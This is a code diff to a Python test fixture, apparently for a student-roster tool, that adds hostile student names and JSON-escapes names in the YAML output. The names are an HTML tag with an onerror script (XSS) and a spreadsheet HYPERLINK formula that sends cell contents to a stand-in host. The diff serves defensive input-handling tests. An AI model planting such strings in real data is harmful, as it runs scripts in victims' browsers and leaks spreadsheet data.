@@ -13,6 +13,7 @@ costs a handful of sandbox runs.
 
 from __future__ import annotations
 
+import json
 import random
 import zipfile
 from dataclasses import dataclass, field
@@ -71,13 +72,20 @@ def sources(example_source) -> dict[str, bytes]:
     }
 
 
+HOSTILE_NAME = "Zoë <img src=x onerror=alert(3)>"
+"""Names come from the metadata: hostile text too."""
+FORMULA_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Student 006")'
+"""A name a spreadsheet would run as a formula."""
+
+
 def _person(i: int) -> dict:
-    return {":name": f"Student {i:03d}", ":sid": f"U26{i:05d}",
-            ":email": f"s{i:03d}@students.example.edu"}
+    name = {5: HOSTILE_NAME, 6: FORMULA_NAME}.get(i, f"Student {i:03d}")
+    return {":name": name, ":sid": f"U26{i:05d}", ":email": f"s{i:03d}@students.example.edu"}
 
 
 def _yaml_person(person: dict, indent: str) -> str:
-    return (f"{indent}- :name: {person[':name']}\n{indent}  :sid: '{person[':sid']}'\n"
+    return (f"{indent}- :name: {json.dumps(person[':name'])}\n"
+            f"{indent}  :sid: '{person[':sid']}'\n"
             f"{indent}  :email: {person[':email']}\n")
 
 
